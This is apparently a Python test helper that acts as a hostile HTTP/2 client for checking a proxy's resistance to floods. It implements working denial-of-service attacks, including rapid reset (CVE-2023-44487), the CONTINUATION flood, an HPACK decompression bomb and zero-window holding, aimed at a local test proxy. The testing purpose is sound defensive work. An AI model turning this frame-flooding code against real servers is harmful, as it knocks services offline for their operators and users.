"""A hostile HTTP/2 client, run as its own process by the flood tests (so its CPU and file descriptors are
not the proxy's: the proxy under test runs in the pytest process).

    python hostile_client.py ATTACK --port P --ca CA --cert CERT --key KEY [--count N] [--seconds S]

Frames are written with hyperframe's frame classes (and hpack for header blocks) over a raw TLS socket,
as fast as the socket takes them, until the proxy ends the connection, ``--count`` frames were sent or
``--seconds`` passed. Prints one JSON object: ``sent`` (attack frames written), ``goaway`` (the error
code of the proxy's GOAWAY, or null), ``closed`` (the proxy closed the connection), ``seconds``, and
per attack a few figures (``window_zero``: bytes of response DATA received).

Attacks:
- ``rapid-reset``: HEADERS (a GET) then RST_STREAM(CANCEL) on each new stream (CVE-2023-44487).
- ``ping-flood`` / ``settings-flood``: PING / empty SETTINGS frames (reading the answers between batches).
- ``continuation``: one HEADERS without END_HEADERS, then CONTINUATION frames without END_HEADERS
  (CVE-2024-27316).
- ``hpack-bomb``: one header block that puts a 4000-byte field in the dynamic table, then a block that
  refers to it ``count`` times (a few bytes on the wire, megabytes decoded).
- ``table-size``: a dynamic table size update above the proxy's SETTINGS_HEADER_TABLE_SIZE.
- ``window-zero``: SETTINGS_INITIAL_WINDOW_SIZE=0, a request for a large body, and no WINDOW_UPDATE
  ever; the connection is held ``--seconds`` then closed by this client.
"""

from __future__ import annotations

import argparse
import json
import socket
import ssl
import struct
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY = 0x7
DATA = 0x0


class Peer:
    """A raw TLS socket speaking h2 frames; reads without blocking to notice the proxy's GOAWAY/close."""

    def __init__(self, args: argparse.Namespace, settings: dict[int, int] | None = None) -> None:
        ctx = ssl.create_default_context(cafile=args.ca)
        ctx.load_cert_chain(args.cert, args.key)
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", args.port), timeout=10)
        self.sock = ctx.wrap_socket(raw, server_hostname="127.0.0.1")
        assert self.sock.selected_alpn_protocol() == "h2"
        frame = SettingsFrame(0)
        frame.settings = settings or {}
        self.sock.sendall(PREFACE + frame.serialize())
        self.inbox = b""
        self.goaway: int | None = None
        self.closed = False
        self.data_bytes = 0

    def send(self, data: bytes) -> bool:
        """False once the proxy has closed the connection."""
        try:
            self.sock.sendall(data)
        except (OSError, ssl.SSLError):
            self.closed = True
            return False
        return True

    def poll(self, timeout: float = 0.0) -> None:
        """Read what has arrived (within ``timeout``); note GOAWAY, DATA sizes and EOF."""
        self.sock.settimeout(timeout if timeout > 0 else 0.0001)
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    self.closed = True
                    return
                self.inbox += chunk
                self._frames()
        except (TimeoutError, BlockingIOError, ssl.SSLWantReadError):
            return
        except (OSError, ssl.SSLError):
            self.closed = True

    def _frames(self) -> None:
        while len(self.inbox) >= 9:
            high, low, kind, _flags, _sid = struct.unpack(">HBBBL", self.inbox[:9])
            size = (high << 8) | low
            if len(self.inbox) < 9 + size:
                return
            payload, self.inbox = self.inbox[9 : 9 + size], self.inbox[9 + size :]
            if kind == GOAWAY:
                self.goaway = struct.unpack(">L", payload[4:8])[0]
            elif kind == DATA:
                self.data_bytes += size

    def wait_closed(self, seconds: float) -> None:
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.poll(0.2)


def request_block(encoder: hpack.Encoder, path: str) -> bytes:
    return encoder.encode(
        [(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", path)]
    )


def whole_request(sid: int, block: bytes) -> HeadersFrame:
    """A HEADERS frame with END_HEADERS and END_STREAM (a GET)."""
    frame = HeadersFrame(sid, block)
    frame.flags.add("END_HEADERS")
    frame.flags.add("END_STREAM")
    return frame


def flood(peer: Peer, frames, count: int, seconds: float, batch: int, read: bool) -> int:
    """Write ``frames()`` batches until the proxy closes, ``count`` frames or ``seconds`` pass."""
    sent = 0
    deadline = time.monotonic() + seconds
    while sent < count and time.monotonic() < deadline and not peer.closed:
        data = b"".join(frames(sent + i) for i in range(batch))
        if not peer.send(data):
            break
        sent += batch
        if read:
            peer.poll()
    peer.wait_closed(max(1.0, deadline - time.monotonic()))
    return sent


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("attack")
    for name in ("--ca", "--cert", "--key", "--path"):
        parser.add_argument(name, default="/k8s/clusters/sandbox/version")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, default=100_000)
    parser.add_argument("--seconds", type=float, default=10.0)
    args = parser.parse_args()
    started = time.monotonic()
    attack = args.attack
    result: dict[str, object] = {}
    if attack == "window-zero":
        peer = Peer(args, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    else:
        peer = Peer(args)
    encoder = hpack.Encoder()
    if attack == "rapid-reset":
        first = request_block(encoder, args.path)  # fills the dynamic table
        again = request_block(encoder, args.path)  # every later block: the same indexed fields

        def frames(n: int) -> bytes:
            sid = 2 * n + 1
            headers = whole_request(sid, first if n == 0 else again)
            return headers.serialize() + RstStreamFrame(sid, error_code=0x8).serialize()

        sent = flood(peer, frames, args.count, args.seconds, 100, read=True)
    elif attack == "ping-flood":
        sent = flood(peer, lambda n: PingFrame(0, opaque_data=struct.pack(">Q", n)).serialize(),
                     args.count, args.seconds, 500, read=True)
    elif attack == "settings-flood":
        sent = flood(peer, lambda n: SettingsFrame(0).serialize(), args.count, args.seconds, 500, read=True)
    elif attack == "continuation":
        headers = HeadersFrame(1, request_block(encoder, args.path))
        peer.send(headers.serialize())
        filler = encoder.encode([("x-filler", "a" * 1000)])

        def frames(n: int) -> bytes:
            return ContinuationFrame(1, filler).serialize()

        sent = flood(peer, frames, args.count, args.seconds, 16, read=True)
    elif attack == "hpack-bomb":
        first = whole_request(1, request_block(encoder, args.path) + encoder.encode([("x-bomb", "b" * 4000)]))
        # every later ("x-bomb", ...) is one byte: an index into the dynamic table
        block = request_block(encoder, args.path) + encoder.encode([("x-bomb", "b" * 4000)] * args.count)
        pieces = [block[i : i + 16384] for i in range(0, len(block), 16384)]  # the default SETTINGS_MAX_FRAME_SIZE
        bomb = HeadersFrame(3, pieces[0])
        bomb.flags.add("END_STREAM")
        frames = [bomb] + [ContinuationFrame(3, piece) for piece in pieces[1:]]
        frames[-1].flags.add("END_HEADERS")
        peer.send(first.serialize() + b"".join(frame.serialize() for frame in frames))
        sent = 1 + len(frames)
        result["bomb_bytes_on_wire"] = len(block)
        peer.wait_closed(args.seconds)
    elif attack == "table-size":
        update = b"\x3f\xe1\xff\x03"  # dynamic table size update to 65536 (5-bit prefix integer)
        headers = whole_request(1, update + request_block(encoder, args.path))
        peer.send(headers.serialize())
        sent = 1
        peer.wait_closed(args.seconds)
    elif attack == "window-zero":
        headers = whole_request(1, request_block(encoder, args.path))
        peer.send(headers.serialize())
        sent = 1
        deadline = time.monotonic() + args.seconds
        while time.monotonic() < deadline and not peer.closed:
            peer.poll(0.2)
        result["window_zero"] = peer.data_bytes
    else:
        raise SystemExit(f"unknown attack {attack!r}")
    closed = peer.closed
    peer.sock.close()
    result.update(sent=sent, goaway=peer.goaway, closed=closed, seconds=round(time.monotonic() - started, 3))
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
